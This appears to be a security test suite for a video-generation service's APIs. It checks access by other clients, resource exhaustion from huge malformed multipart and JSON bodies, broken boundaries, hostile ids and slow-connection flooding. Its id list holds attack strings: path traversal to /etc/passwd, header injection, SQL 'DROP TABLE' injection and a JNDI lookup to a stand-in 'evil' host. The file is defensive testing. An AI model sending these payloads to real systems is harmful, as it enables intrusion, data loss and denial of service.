"""Hostile requests to the APIs of other providers: ids of other clients, forms, boundaries, paths and messages."""

import time
from collections.abc import Callable, Mapping
from functools import partial
from typing import Any
from urllib.parse import quote

import anyio

from tests.security.catalogue import check_all, peak, require
from tests.security.environment import ALICE, BOB, ROOT, ServiceUnderTest, bearer, service_under_test
from tests.security.raw import exchange, request, statuses

MB = 1024 * 1024
MAX_SECONDS = 20.0
"""Each body is refused within this time on a busy machine; what grows with its square takes minutes."""

MAX_PEAK = 160 * MB
"""A body of 24 MB is held some times: as it came, as parts, as files, as base64."""

AUTH = f"Authorization: Bearer {ALICE}"
ACCEPT = {"Accept": "application/json, text/event-stream"}


async def _tasks(g: ServiceUnderTest) -> int:
    return len((await g.http.get("/v1/tasks?limit=200", headers=bearer(ROOT))).json()["data"])


# ── other clients ────────────────────────────────────────────────────────


def tool_call(name: str, **arguments: object) -> dict[str, Any]:
    """Return the message that calls a tool."""
    return {
        "jsonrpc": "2.0",
        "id": 1,
        "method": "tools/call",
        "params": {"name": name, "arguments": arguments},
    }


async def _foreign_paths(g: ServiceUnderTest) -> str:
    """Read and erase alice's task as bob through both drop-in APIs, and continue his list after it."""
    task = (await g.submit())["id"]
    found = []
    for method, path in (
        ("GET", f"/v1/videos/{task}"),
        ("GET", f"/v1/videos/{task}/content"),
        ("DELETE", f"/v1/videos/{task}"),
        ("GET", f"/v1/videos?after={task}"),
        ("GET", f"/model/v1/generation/task/{task}"),
    ):
        response = await g.http.request(method, path, headers=bearer(BOB))
        require("cat" not in response.text, f"{method} {path} shows alice's prompt")
        found.append(response.status_code)
    require(set(found) == {404}, f"answered {found}")
    require((await g.task(task))["status"] == "in_progress", "the task changed")
    require(task not in (await g.http.get("/v1/videos", headers=bearer(BOB))).text, "bob's list has alice's task")
    return "404 for each"


async def _foreign_tools(g: ServiceUnderTest) -> str:
    """Read and cancel alice's task as bob through the tools: the answers are those for an id that nobody has."""
    task, unknown = (await g.submit())["id"], "01900000-0000-7000-8000-000000000000"
    for tool in ("get_video", "cancel_video"):
        texts = []
        for each in (task, unknown):
            answer = await g.http.post("/mcp", json=tool_call(tool, task_id=each), headers={**bearer(BOB), **ACCEPT})
            require(answer.json()["result"]["isError"] is True, f"{tool} succeeded")
            texts.append(answer.text.replace(each, "ID"))
        require(texts[0] == texts[1], f"{tool} differs when the task exists")
    require((await g.task(task))["status"] == "in_progress", "the task changed")
    return "the same error as for an unknown id"


# ── bodies ───────────────────────────────────────────────────────────────


def part(head: str, content: bytes = b"", boundary: bytes = b"x") -> bytes:
    """Return one part of a form; `head` follows `form-data; `."""
    return b"--" + boundary + f"\r\nContent-Disposition: form-data; {head}\r\n\r\n".encode() + content + b"\r\n"


END = b"--x--\r\n"
PROMPT = part('name="prompt"', b"a cat")
FORM = "multipart/form-data; boundary=x"
JSON = "application/json"
PICTURE = 'name="input_reference"; filename="a.png"\r\nContent-Type: image/png'
GENERATION = b'{"model":"viduq2_pro_reference","input":['
NEARLY = f"multipart/form-data; boundary={'-' * 69}x"

BODIES: Mapping[str, tuple[str, str, Callable[[], bytes]]] = {
    "200,000 fields": ("/v1/videos", FORM, lambda: PROMPT + part('name="a"') * 200_000 + END),
    "200,000 empty files": ("/v1/videos", FORM, lambda: PROMPT + part('name="a"; filename="b"') * 200_000 + END),
    "a file of 23 MB that is no picture": ("/v1/videos", FORM, lambda: PROMPT + part(PICTURE, bytes(23 * MB)) + END),
    "a file of 30 MB": ("/v1/videos", FORM, lambda: PROMPT + part(PICTURE, bytes(30 * MB)) + END),
    "a field of 20 MB": ("/v1/videos", FORM, lambda: part('name="prompt"', b"a" * 20 * MB) + END),
    "a field's name of 20 MB": ("/v1/videos", FORM, lambda: part(f'name="{"a" * 20 * MB}"') + END),
    "a field's name of brackets": ("/v1/videos", FORM, lambda: PROMPT + part(f'name="a{"[b]" * MB}"') + END),
    "200,000 headers of a part": ("/v1/videos", FORM, lambda: part("name=a" + "\r\nX-A: b" * 200_000) + END),
    "20 MB of quotes in a header": ("/v1/videos", FORM, lambda: part("name=" + '\\"' * 10 * MB) + END),
    "20 MB that nearly are the boundary": ("/v1/videos", NEARLY, lambda: b"\r\n" + b"-" * 20 * MB),
    "a form without end": ("/v1/videos", FORM, lambda: PROMPT),
    "a form as JSON": ("/v1/videos", JSON, lambda: PROMPT + END),
    "5,000,000 brackets to generation": ("/model/v1/generation", JSON, lambda: b"[" * 5_000_000),
    "5,000,000 brackets to the tools": ("/mcp", JSON, lambda: b"[" * 5_000_000),
    "100,000 inputs": (
        "/model/v1/generation",
        JSON,
        lambda: GENERATION + b",".join([b'{"params":{}}'] * 100_000) + b"]}",
    ),
    "a number of 5,000,000 digits": (
        "/model/v1/generation",
        JSON,
        lambda: b'{"model":' + b"9" * 5_000_000 + b"}",
    ),
    "an id of 20 MB": ("/mcp", JSON, lambda: b'{"jsonrpc":"2.0","method":1,"id":"' + b"a" * 20 * MB + b'"}'),
    "100,000 messages": ("/mcp", JSON, lambda: b"[" + b",".join([b'{"jsonrpc":"2.0","id":1}'] * 100_000) + b"]"),
}
"""A path, a media type and what makes the body, up to the size that a task may have."""


async def _refused(name: str, g: ServiceUnderTest) -> str:
    """Send the body: it is refused in time and memory, and the service responds to others."""
    path, media_type, make = BODIES[name]
    body = make()
    before, started = await _tasks(g), time.monotonic()
    with peak() as memory:
        answer = await g.http.post(path, content=body, headers={"Content-Type": media_type, **ACCEPT}, timeout=60)
    seconds = time.monotonic() - started
    require(400 <= answer.status_code < 500, f"answered {answer.status_code}")
    require(len(answer.content) < 64 * 1024, f"the answer has {len(answer.content)} bytes")
    require(seconds < MAX_SECONDS, f"it took {seconds:.0f} s")
    require(memory[0] - len(body) < MAX_PEAK, f"{memory[0] // MB} MB were taken")
    require(await _tasks(g) == before, "a task was created")
    return f"answered {answer.status_code}"


# ── boundaries and paths ─────────────────────────────────────────────────

BOUNDARIES = {
    "no boundary": "multipart/form-data",
    "an empty boundary": "multipart/form-data; boundary=",
    "an empty quoted boundary": 'multipart/form-data; boundary=""',
    "an open quote": 'multipart/form-data; boundary="x',
    "a boundary of 10,000 characters": f"multipart/form-data; boundary={'x' * 10_000}",
    "a boundary in Latin-1": "multipart/form-data; boundary=\xe4\xf6",
    "two boundaries": "multipart/form-data; boundary=y; boundary=x",
    "another charset": "multipart/form-data; boundary=x; charset=utf-16",
    "a continued parameter": "multipart/form-data; boundary*0=x; boundary*1=y",
    "multipart/mixed": "multipart/mixed; boundary=x",
}


async def _boundary(media_type: str, g: ServiceUnderTest) -> str:
    """Send a form whose parts are separated by x: a task of a misread form would be another one."""
    before, body = await _tasks(g), PROMPT + END
    lines = (AUTH, f"Content-Type: {media_type}", f"Content-Length: {len(body)}", "Connection: close")
    found = statuses(await exchange(g.port, request("POST", "/v1/videos", *lines, body=body), seconds=5))
    require(len(found) == 1 and 400 <= found[0] < 500, f"answered {found}")
    require(await _tasks(g) == before, "a task was created")
    return f"answered {found[0]}"


IDS = (
    "../../etc/passwd", "..", ".", "%2e%2e", "\0", "a\0", "a\r\nX-Evil: 1", "a/b", "a\\b", "'; DROP TABLE tasks; --",
    "*", "%", "_", "\xff", "a" * 4000, "-1", "9" * 400, "{id}", "${jndi:ldap://evil}",
)  # fmt: skip


async def _id(text: str, g: ServiceUnderTest) -> str:
    """Use the text as an id in each path and tool."""
    found = []
    for method, path in (
        ("GET", "/v1/videos/{}"),
        ("GET", "/v1/videos/{}/content"),
        ("DELETE", "/v1/videos/{}"),
        ("GET", "/model/v1/generation/task/{}"),
        ("GET", "/api/v1/skill/models/{}/spec"),
    ):
        line = request(method, path.format(quote(text, safe="")), AUTH, "Connection: close")
        received = await exchange(g.port, line, seconds=5)
        require(b"\r\nx-evil" not in received.lower(), "a header was injected")
        require(b"root:" not in received, "a file was read")
        found += statuses(received)
    require(set(found) <= {400, 404, 405} and len(found) == 5, f"answered {found}")
    answer = await g.http.post("/mcp", json=tool_call("get_video", task_id=text), headers=ACCEPT)
    require(answer.json()["result"]["isError"] is True, "the tool found a task")
    return f"answered {sorted(set(found))}"


async def _many_forms(g: ServiceUnderTest) -> str:
    """Send 30 slow forms: another client's small request is answered meanwhile."""
    head = (AUTH, f"Content-Type: {FORM}", f"Content-Length: {20 * MB}")
    slow = request("POST", "/v1/videos", *head, body=PROMPT)
    async with anyio.create_task_group() as group:
        for _ in range(30):
            group.start_soon(partial(exchange, g.port, slow, seconds=8))
        await anyio.sleep(0.5)
        started = time.monotonic()
        body = {"model": "viduq2_pro_reference", "prompt": "a dog", "input_reference": "https://example.org/dog.png"}
        answer = await g.http.post("/v1/videos", json=body, headers=bearer(BOB))
        seconds = time.monotonic() - started
        group.cancel_scope.cancel()
    require(answer.status_code == 200 and seconds < 5, f"answered {answer.status_code} after {seconds:.0f} s")
    return "the other client's task was accepted meanwhile"


check_all(
    "drop-in",
    {
        "paths with another client's id": _foreign_paths,
        "tools with another client's id": _foreign_tools,
        **{name: partial(_refused, name) for name in BODIES},
        **{name: partial(_boundary, media_type) for name, media_type in BOUNDARIES.items()},
        **{f"the id {text[:40]!r}": partial(_id, text) for text in IDS},
        "30 slow forms": _many_forms,
    },
    service_under_test,
)
